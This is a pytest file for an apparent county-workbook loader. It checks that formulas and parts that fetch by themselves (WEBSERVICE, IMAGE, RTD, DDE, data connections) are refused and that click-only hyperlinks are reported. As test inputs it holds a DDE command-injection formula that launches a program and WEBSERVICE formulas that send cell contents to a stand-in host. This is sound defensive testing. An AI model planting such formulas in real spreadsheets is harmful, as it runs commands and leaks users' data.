"""What a county's workbook may call out to: refused where it fetches by itself, told where it waits for a click."""

from __future__ import annotations

import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from hall_assistant.errors import StaffError
from hall_assistant.logbook.reports.county_book import open_book
from hall_assistant.logbook.reports.county_reach import outside
from hall_assistant.sentences import SENTENCES
from tests.core.logbook.reports.books import SHEET, county_book, saved, with_part

_SPREADSHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def with_formula(formula: str) -> bytes:
    book = county_book()
    book[SHEET]["E4"] = formula
    return saved(book)


def external(target: str, kind: str = "externalLinkPath") -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{_RELATIONS}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def refused(data: bytes) -> str:
    with pytest.raises(StaffError) as told:
        open_book(data)
    assert told.value.code == "county.reaching"
    assert SENTENCES[told.value.code].format(**told.value.values)
    return str(told.value.values["what"])


@pytest.mark.parametrize(
    ("formula", "named"),
    [
        ('=WEBSERVICE("http://a.example.com/?n="&B3)', "WEBSERVICE"),
        ('=_xlfn.WEBSERVICE("http://a.example.com")', "WEBSERVICE"),
        ('=1+_xlfn.FILTERXML (B3,"//a")', "FILTERXML"),
        ('=IF(B3>"it\'s",_xlfn.IMAGE("https://a.example.com/"&B3),"")', "IMAGE"),
        ("=MAP(B3:B4,_xleta.WEBSERVICE)", "WEBSERVICE"),
        ('=COM.MICROSOFT.WEBSERVICE("http://a.example.com")', "WEBSERVICE"),
        ('=RTD("a.b",,"x")', "RTD"),
        ('=DDE("soffice","a.ods","A1")', "DDE"),
        ("=webservice(B3)", "WEBSERVICE"),
    ],
)
def test_a_formula_that_fetches_by_itself_is_refused_by_its_name(formula: str, named: str) -> None:
    assert refused(with_formula(formula)).endswith(named)


def test_it_is_found_wherever_a_formula_may_stand() -> None:
    fetch = 'WEBSERVICE("http://a.example.com")'
    named, coloured, listed = county_book(), county_book(), county_book()
    named.defined_names["别名"] = DefinedName("别名", attr_text=fetch)
    coloured[SHEET].conditional_formatting.add("B3", FormulaRule(formula=[fetch]))
    listed[SHEET].add_data_validation(DataValidation(type="custom", formula1=fetch, sqref="B4"))
    for book in (named, coloured, listed):
        assert refused(saved(book)).endswith("WEBSERVICE")


@pytest.mark.parametrize("formula", ["=cmd|'/C calc'!A0", "='excel'|'a.xls'!R1C1"])
def test_dde_is_refused_as_a_formula(formula: str) -> None:
    assert "别的程序" in refused(with_formula(formula))


@pytest.mark.parametrize("tag", ["ddeLink", "oleLink"])
def test_dde_is_refused_as_a_link(tag: str) -> None:
    link = f'<externalLink {_SPREADSHEET}><{tag} ddeService="cmd" ddeTopic="/C calc"/></externalLink>'.encode()
    assert "别的程序" in refused(with_part(saved(county_book()), "xl/externalLinks/externalLink1.xml", link))


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("xl/connections.xml", f'<connections {_SPREADSHEET}><connection id="1" type="5"/></connections>'),
        ("elsewhere/c.xml", '<x:connections xmlns:x="urn:x"><x:connection id="1"/></x:connections>'),
        ("xl/queryTables/queryTable1.xml", f'<queryTable {_SPREADSHEET} connectionId="1"/>'),
        ("customXml/item1.xml", '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'),
        ("xl/model/item.data", "x"),
    ],
)
def test_a_data_connection_is_refused_wherever_it_lies(part: str, content: str) -> None:
    assert refused(with_part(saved(county_book()), part, content.encode())) == "外部数据连接"


@pytest.mark.parametrize(
    ("formula", "told"),
    [
        ('=HYPERLINK("https://a.example.com/?n="&B3,"点这里")', "网页（a.example.com）"),
        ('=HYPERLINK(B3,"点这里")', "网页"),
        ('=HYPERLINK("mailto:li@example.com?body="&B3)', "网页（li@example.com）"),
        ("=B3*2", ""),
        ('="WEBSERVICE(x)|"&B3', ""),
        ("='一|二'!A1", ""),
        ("=MYIMAGE(B3)", ""),
    ],
)
def test_a_formula_that_waits_for_a_click_is_kept_and_told_with_where_it_leads(formula: str, told: str) -> None:
    data = with_formula(formula)
    assert open_book(data) and outside(data) == told


def test_links_of_cells_and_other_workbooks_are_told_each_once_three_by_name() -> None:
    book = county_book()
    for place, host in enumerate(("a", "a", "b", "c", "d"), start=20):
        book[SHEET].cell(place, 1, "看").hyperlink = f"http://{host}.example.com/x"
    data = with_part(
        saved(book), "xl/externalLinks/_rels/externalLink1.xml.rels", external("file:///C:/%E4%B8%8A%E6%9C%88.xlsx")
    )
    assert outside(data) == "网页（a.example.com、b.example.com、c.example.com等）、别的表（上月.xlsx）"


def test_words_in_a_cell_are_no_formula() -> None:
    book = county_book()
    book[SHEET]["A20"] = "不许用 WEBSERVICE(…) 和 cmd|x"
    assert open_book(saved(book)) and outside(saved(book)) == ""
